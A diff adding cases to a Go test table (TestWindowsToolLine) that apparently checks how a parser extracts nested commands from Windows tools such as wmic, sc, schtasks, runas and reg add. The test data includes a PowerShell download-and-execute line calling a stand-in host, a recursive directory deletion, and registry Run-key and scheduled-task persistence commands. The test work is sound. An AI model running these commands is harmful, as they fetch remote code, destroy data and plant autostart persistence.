@@ -43,6 +43,11 @@ func TestWindowsToolLine(t *testing.T) {
 		// program is cmd.exe, which splits them itself
 		{[]string{"wmic", "process", "call", "create", "powershell -c iwr http://h.example/x | iex"}, "powershell -c iwr http://h.example/x '|' iex"},
 		{[]string{"sc", "create", "w", "binPath=", "pwsh -c a & b"}, "pwsh -c a '&' b"},
+		{[]string{"schtasks", "/create", "/tn", "t", "/tr", "pwsh -c a | b", "/sc", "daily"}, "pwsh -c a '|' b"},
+		{[]string{"schtasks", "/query"}, ""},
+		{[]string{"runas", "/user:admin", "pwsh -c a | b"}, "pwsh -c a '|' b"},
+		{[]string{"reg", "add", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, "/v", "u", "/d", "pwsh -c a | b"}, "pwsh -c a '|' b"},
+		{[]string{"reg", "add", `HKCU\Software\Acme`, "/v", "u", "/d", "pwsh -c a | b"}, ""},
 		{[]string{"wmic", "process", "call", "create", `C:\Windows\System32\cmd.exe /c whoami & rd /s /q C:\x`}, "/mnt/c/Windows/System32/cmd.exe /c whoami\nrm -r -f /mnt/c/x"},
 	} {
 		if got := windowsToolLine(progName(tc.words[0]), tc.words); got != tc.want {
